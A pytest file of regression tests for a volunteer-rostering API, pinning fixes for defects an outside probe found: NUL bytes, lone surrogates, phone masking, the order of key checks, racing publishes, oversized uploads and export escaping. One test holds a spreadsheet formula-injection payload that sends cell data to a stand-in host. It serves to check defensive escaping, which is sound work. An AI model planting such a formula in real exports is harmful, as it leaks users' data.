"""Defects an outside probe of the service found (issue 9), each pinned by a test.

Every test here failed before its fix.  Storage is involved in most of them,
so they run on SQLite and, where ``TEST_DATABASE_URL`` is set, PostgreSQL.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import threading
import time
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import func, select
from sqlalchemy.exc import OperationalError

from api.store.models import DatasetItem, Proposal, SolveJob
from tests.api.conftest import SAMPLE, csv_files, headers
from tests.api.test_rosters import wait_for
from tests.test_encodings import big5_able
from tests.test_read_limits import raw_workbook

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
OFFSET = re.compile(r"(Z|[+-]\d\d:\d\d)$")


def _post_json(client: TestClient, path: str, body: bytes, key: str | None) -> Any:
    sent = {"content-type": "application/json", **(headers(key) if key else {})}
    return client.post(path, content=body, headers=sent)


# 3. A lone surrogate in a JSON string ----------------------------------------------------


def test_lone_surrogate_in_json_is_422_with_its_path(
    client: TestClient, keys: dict[str, str], dataset_id: int
) -> None:
    body = b'{"id": "V9001", "name": "\\ud800", "role": "student", "membership": "none",'
    body += ' "department": "自动控制学院"}'.encode()
    answer = _post_json(client, f"/datasets/{dataset_id}/volunteers", body, keys["coordinator"])
    assert answer.status_code == 422, answer.text
    assert answer.json()["detail"][0]["loc"] == ["body", "name"]
    assert "surrogate" in answer.json()["detail"][0]["msg"]
    # in a key, in a list, and in a route whose schema would echo the input
    for payload in (b'{"\\udfff": 1}', b'{"dataset_id": 1, "params": {"x": ["\\ud800"]}}'):
        answer = _post_json(client, "/rosters", payload, keys["coordinator"])
        assert answer.status_code == 422, answer.text
    answer = _post_json(client, "/keys", b'{"role": "viewer", "label": "a\\udc00b"}', keys["admin"])
    assert answer.status_code == 422 and answer.json()["detail"][0]["loc"] == ["body", "label"]


def test_surrogate_pair_is_ordinary_text(
    client: TestClient, keys: dict[str, str], dataset_id: int
) -> None:
    body = (
        b'{"id": "V9002", "name": "\\ud83d\\ude00", "role": "student", "membership": "none",'
        + ' "department": "自动控制学院"}'.encode()
    )
    answer = _post_json(client, f"/datasets/{dataset_id}/volunteers", body, keys["coordinator"])
    assert answer.status_code == 201, answer.text
    assert answer.json()["name"] == "😀"


# 4. NUL reaches the database ---------------------------------------------------------------


def test_nul_in_urls_forms_and_json_is_4xx(
    client: TestClient, keys: dict[str, str], dataset_id: int
) -> None:
    assert client.get("/calendars/cal_a%00_b.ics").status_code == 400
    assert (
        client.get(
            f"/datasets/{dataset_id}/volunteers/V%00", headers=headers(keys["viewer"])
        ).status_code
        == 400
    )
    listed = client.get(
        f"/datasets/{dataset_id}/volunteers?department=a%00b", headers=headers(keys["viewer"])
    )
    assert listed.status_code == 400
    named = client.post(
        "/datasets",
        files=csv_files(),
        data={"name": "bad\x00name"},
        headers=headers(keys["coordinator"]),
    )
    assert named.status_code == 422 and named.json()["detail"][0]["loc"] == ["body", "name"]
    body = b'{"id": "V9003", "name": "a\\u0000b", "role": "student", "membership": "none",'
    body += ' "department": "自动控制学院"}'.encode()
    answer = _post_json(client, f"/datasets/{dataset_id}/volunteers", body, keys["coordinator"])
    assert answer.status_code == 422 and "NUL" in answer.json()["detail"][0]["msg"]
    files = csv_files()
    files[0] = ("files", ("vol\x00unteers.csv", files[0][1][1], "text/csv"))
    upload = client.post("/datasets", files=files, headers=headers(keys["coordinator"]))
    assert upload.status_code == 400, upload.text
    # nothing was stored by any of these
    datasets = client.get("/datasets", headers=headers(keys["viewer"])).json()
    assert [d["id"] for d in datasets] == [dataset_id]


# 5. Short phone numbers barely masked ----------------------------------------------------


def test_viewer_sees_at_most_four_digits_of_any_phone(
    client: TestClient, keys: dict[str, str], dataset_id: int
) -> None:
    path = f"/datasets/{dataset_id}/volunteers"
    for number, vid in (("8800-1234", "V9101"), ("199-0000-9999", "V9102"), ("12345", "V9103")):
        body = {
            "id": vid,
            "name": "测试",
            "role": "student",
            "membership": "none",
            "department": "自动控制学院",
            "phone": number,
        }
        made = client.post(path, json=body, headers=headers(keys["coordinator"]))
        assert made.status_code == 201, made.text
        shown = client.get(f"{path}/{vid}", headers=headers(keys["viewer"])).json()["phone"]
        digits = re.sub(r"\D", "", number)
        visible = re.sub(r"\D", "", shown)
        assert len(visible) <= 4 and len(digits) - len(visible) >= min(7, len(digits)), shown
        assert digits.endswith(visible)
    page = client.get(path, params={"limit": 500}, headers=headers(keys["viewer"])).json()
    assert all(len(re.sub(r"\D", "", v["phone"])) <= 4 for v in page["items"])


# 6. The OpenAPI document leaks sample personal data --------------------------------------


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


def _personal_examples(value: Any, inside: bool = False) -> list[tuple[str, str]]:
    """(field, value) of every phone, address and notes value inside an example."""
    found: list[tuple[str, str]] = []
    if isinstance(value, dict):
        for key, item in value.items():
            if inside and key in ("phone", "address", "notes") and isinstance(item, str):
                found.append((key, item))
            found += _personal_examples(item, inside or key in ("example", "examples"))
    elif isinstance(value, list):
        for item in value:
            found += _personal_examples(item, inside)
    return found


def test_openapi_examples_carry_no_sample_personal_data(client: TestClient) -> None:
    document = client.get("/openapi.json").json()
    personal = _personal_examples(document)
    assert {field for field, _ in personal} >= {"phone", "address"}
    for field, value in personal:
        digits = re.sub(r"\D", "", value)
        fake = not value or "示例" in value or (field == "phone" and set(digits) == {"0"})
        assert fake, f"example {field} {value!r} is not obviously fake"
    shown = set(_strings(document))
    for sheet, columns in (("volunteers", ("name", "phone")), ("households", ("address", "notes"))):
        frame = pd.read_csv(SAMPLE / f"{sheet}.csv", dtype=str, encoding="utf-8-sig").fillna("")
        for column in columns:
            assert not shown & {v for v in frame[column] if len(v) >= 3}, column


# 11. Time stamps change shape --------------------------------------------------------------


def test_every_time_stamp_has_an_offset(
    client: TestClient, keys: dict[str, str], dataset_id: int
) -> None:
    admin = headers(keys["admin"])
    created = client.post("/datasets", files=csv_files(), headers=admin).json()
    read = client.get(f"/datasets/{created['id']}", headers=admin).json()
    listed = client.get("/datasets", headers=admin).json()
    stamps = [created["created_at"], read["created_at"], *(d["created_at"] for d in listed)]
    stamps += [k["created_at"] for k in client.get("/keys", headers=admin).json()["items"]]
    stamps += [e["at"] for e in client.get("/audit", headers=admin).json()["items"]]
    assert stamps and all(OFFSET.search(s) for s in stamps), stamps
    assert created["created_at"] == read["created_at"]
    assert dt.datetime.fromisoformat(read["created_at"]).utcoffset() == dt.timedelta(0)


# 12. A body parsed before the key is checked --------------------------------------------


def test_key_is_checked_before_the_body(
    client: TestClient, keys: dict[str, str], dataset_id: int
) -> None:
    for key in (None, "mk_00000000_not-a-key"):
        for body in (b"{not json", b'{"dataset_id": "x"}', b'{"name": "\\ud800"}'):
            answer = _post_json(client, "/rosters", body, key)
            assert answer.status_code == 401, (key, body, answer.text)
            assert "detail" in answer.json() and "loc" not in answer.text
        upload = client.post(
            "/datasets",
            content=b"--x\r\nnot multipart",
            headers={
                "content-type": "multipart/form-data; boundary=x",
                **(headers(key) if key else {}),
            },
        )
        assert upload.status_code == 401
        put = client.put(
            f"/datasets/{dataset_id}/volunteers/V0001",
            content=b"[",
            headers=headers(key) if key else {},
        )
        assert put.status_code == 401
    # routes without a key stay open, and a good key still gets the schema's answer
    assert client.get("/health").status_code == 200
    assert client.get("/calendars/cal_nope.ics").status_code == 404
    answer = _post_json(client, "/rosters", b"{not json", keys["coordinator"])
    assert answer.status_code == 422


# 9. Publishing twice at once ---------------------------------------------------------------


def _done_roster(client: TestClient, keys: dict[str, str], dataset_id: int) -> int:
    started = client.post(
        "/rosters",
        json={"dataset_id": dataset_id, "params": {"time_limit": 10}},
        headers=headers(keys["coordinator"]),
    )
    assert started.status_code == 202, started.text
    roster_id = started.json()["id"]
    wait_for(client, keys["viewer"], roster_id, lambda j: j["status"] == "done")
    return roster_id


def _copy_job(app: FastAPI, roster_id: int) -> int:
    """A second finished roster of the same dataset (same content), without solving again."""
    with app.state.sessionmaker() as session:
        job = session.get(SolveJob, roster_id)
        assert job is not None
        twin = SolveJob(
            dataset_id=job.dataset_id,
            status=job.status,
            params=job.params,
            problem=job.problem,
            summary=job.summary,
            roster=job.roster,
        )
        session.add(twin)
        session.commit()
        return twin.id


def _at_once(client: TestClient, key: str, paths: list[str]) -> list[int]:
    barrier = threading.Barrier(len(paths))
    codes: list[int] = [0] * len(paths)

    def post(index: int) -> None:
        barrier.wait()
        codes[index] = client.post(paths[index], headers=headers(key)).status_code

    threads = [threading.Thread(target=post, args=(i,)) for i in range(len(paths))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return codes


def _proposals(app: FastAPI, dataset_id: int) -> dict[int, int]:
    """Proposals per roster of the dataset."""
    with app.state.sessionmaker() as session:
        rows = session.execute(
            select(Proposal.roster_id, func.count())
            .where(Proposal.dataset_id == dataset_id)
            .group_by(Proposal.roster_id)
        ).all()
    return {roster: count for roster, count in rows}


def _drafted_history(app: FastAPI, dataset_id: int) -> int:
    """History rows written by publishing (those naming a roster): there must be none."""
    with app.state.sessionmaker() as session:
        return (
            session.scalar(
                select(func.count())
                .select_from(DatasetItem)
                .where(
                    DatasetItem.dataset_id == dataset_id,
                    DatasetItem.kind == "history",
                    DatasetItem.roster_id.is_not(None),
                )
            )
            or 0
        )


def test_double_publish_proposes_once(
    app: FastAPI, client: TestClient, keys: dict[str, str], dataset_id: int
) -> None:
    roster_id = _done_roster(client, keys, dataset_id)
    rows = len(
        client.get(f"/rosters/{roster_id}", headers=headers(keys["viewer"])).json()["roster"]
    )
    for attempt in range(3):
        target = roster_id if attempt == 0 else _copy_job(app, roster_id)
        codes = _at_once(client, keys["coordinator"], [f"/rosters/{target}/publish"] * 2)
        assert sorted(codes) == [200, 409], codes
        assert _proposals(app, dataset_id)[target] == rows
    # two different rosters at once: exactly one plan of record, proposals of one of them
    first, second = _copy_job(app, roster_id), _copy_job(app, roster_id)
    codes = _at_once(
        client, keys["coordinator"], [f"/rosters/{first}/publish", f"/rosters/{second}/publish"]
    )
    assert 200 in codes and set(codes) <= {200, 409}, codes
    listed = client.get("/rosters", headers=headers(keys["viewer"])).json()["items"]
    plan = [j["id"] for j in listed if j["published_at"] and not j["superseded_at"]]
    assert len(plan) == 1 and plan[0] in (first, second)
    # each roster whose publish succeeded has its proposals (the superseded one keeps
    # them as its record); one refused at the same moment has none
    made = _proposals(app, dataset_id)
    for target, code in zip((first, second), codes, strict=True):
        assert made.get(target, 0) == (rows if code == 200 else 0), (target, code, made)
    assert _drafted_history(app, dataset_id) == 0


def test_sequential_publish_supersedes(
    app: FastAPI, client: TestClient, keys: dict[str, str], dataset_id: int
) -> None:
    roster_id = _done_roster(client, keys, dataset_id)
    twin = _copy_job(app, roster_id)
    coordinator = headers(keys["coordinator"])
    assert client.post(f"/rosters/{roster_id}/publish", headers=coordinator).status_code == 200
    again = client.post(f"/rosters/{roster_id}/publish", headers=coordinator)
    assert again.status_code == 409 and "already published" in again.json()["detail"]
    later = client.post(f"/rosters/{twin}/publish", headers=coordinator)
    assert later.status_code == 200 and later.json()["superseded"] == roster_id
    # the same assignments: every answer carried over, nothing asked anew or cancelled
    rows = _proposals(app, dataset_id)[roster_id]
    report = later.json()
    assert (report["proposals_made"], report["proposals_kept"]) == (0, rows)
    assert report["proposals_cancelled"] == 0
    assert _proposals(app, dataset_id) == {roster_id: rows, twin: rows}
    assert _drafted_history(app, dataset_id) == 0


# 1, 2 and 10: uploads and exports ------------------------------------------------------


def test_small_workbook_of_many_rows_is_413_at_once(
    client: TestClient, keys: dict[str, str], tmp_path: Path
) -> None:
    rows = [["id", "name", "role", "membership", "department", "a", "b", "c", "d", "e"]]
    rows += [[f"V{i}", "某", "student", "none", "x", 1, 2, 3, 4, 5] for i in range(60_000)]
    book = raw_workbook(tmp_path / "many.xlsx", {"volunteers": rows})
    began = time.perf_counter()
    answer = client.post(
        "/datasets",
        files=[("files", ("many.xlsx", book.read_bytes(), XLSX))],
        headers=headers(keys["coordinator"]),
    )
    took = time.perf_counter() - began
    assert answer.status_code == 413, answer.text
    assert "20000" in answer.text.replace(",", "") and "volunteers" in answer.text
    assert took < 5, f"refused after {took:.1f} s"
    assert client.get("/datasets", headers=headers(keys["viewer"])).json() == []


def test_big5_sample_is_stored_with_its_real_names(
    client: TestClient, keys: dict[str, str], tmp_path: Path
) -> None:
    texts = {p.stem: big5_able(p.read_text(encoding="utf-8-sig")) for p in SAMPLE.glob("*.csv")}
    files = [
        ("files", (f"{stem}.csv", text.encode("big5"), "text/csv")) for stem, text in texts.items()
    ]
    made = client.post("/datasets", files=files, headers=headers(keys["coordinator"]))
    assert made.status_code == 201, made.text
    listed = client.get(
        f"/datasets/{made.json()['id']}/volunteers",
        params={"limit": 500},
        headers=headers(keys["coordinator"]),
    ).json()["items"]
    expected = pd.read_csv(io.StringIO(texts["volunteers"]), dtype=str)
    assert [v["name"] for v in listed] == list(expected["name"])
    assert all("\ufffd" not in v["name"] + v["department"] for v in listed)
    garbage = bytes(range(128, 256)) * 20
    refused = client.post(
        "/datasets", files=csv_files(volunteers=garbage), headers=headers(keys["coordinator"])
    )
    assert refused.status_code == 400 and "volunteers.csv" in refused.text


def test_exports_never_carry_a_live_formula(
    app: FastAPI, client: TestClient, keys: dict[str, str], dataset_id: int
) -> None:
    title = '=HYPERLINK("http://example.invalid/?x="&D2,"open")'
    coordinator = headers(keys["coordinator"])
    need = client.get(f"/datasets/{dataset_id}/needs/N001", headers=coordinator).json()
    changed = client.put(
        f"/datasets/{dataset_id}/needs/N001", json={**need, "title": title}, headers=coordinator
    )
    assert changed.status_code == 200, changed.text
    roster_id = _done_roster(client, keys, dataset_id)
    rows = client.get(f"/rosters/{roster_id}", headers=headers(keys["viewer"])).json()["roster"]
    assert any(r["need_title"] == title for r in rows), "N001 is staffed in the sample"
    viewer = headers(keys["viewer"])
    csv = client.get(f"/rosters/{roster_id}/export?format=csv", headers=viewer).content
    assert b"\n=HYPERLINK" not in csv and b",=HYPERLINK" not in csv
    assert "'=HYPERLINK" in csv.decode("utf-8-sig")
    xlsx = client.get(f"/rosters/{roster_id}/export?format=xlsx", headers=viewer).content
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == title]
    assert cells and all(c.data_type == "s" for c in cells)
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_key_first_behind_a_root_path_and_for_any_json_type(
    app: FastAPI, client: TestClient, keys: dict[str, str], dataset_id: int
) -> None:
    mounted = TestClient(app, root_path="/api")
    answer = mounted.post(
        "/api/rosters", content=b"{bad", headers={"content-type": "application/json"}
    )
    assert answer.status_code == 401, answer.text
    # a JSON body under another JSON media type is checked for unstorable text too
    sent = {"content-type": "application/merge-patch+json", **headers(keys["coordinator"])}
    body = b'{"dataset_id": %d, "params": {"x\\u0000": 1}}' % dataset_id
    assert client.post("/rosters", content=body, headers=sent).status_code == 422


def test_a_busy_database_during_the_key_check_is_503(
    client: TestClient, keys: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    # The lock is injected: a real one would keep the request waiting for the busy timeout.
    def locked(*_: object) -> None:
        raise OperationalError("SELECT", {}, Exception("database is locked"))

    monkeypatch.setattr("api.guards.find_key", locked)
    answer = client.get("/datasets", headers=headers(keys["viewer"]))
    assert answer.status_code == 503 and answer.headers["retry-after"] == "5"
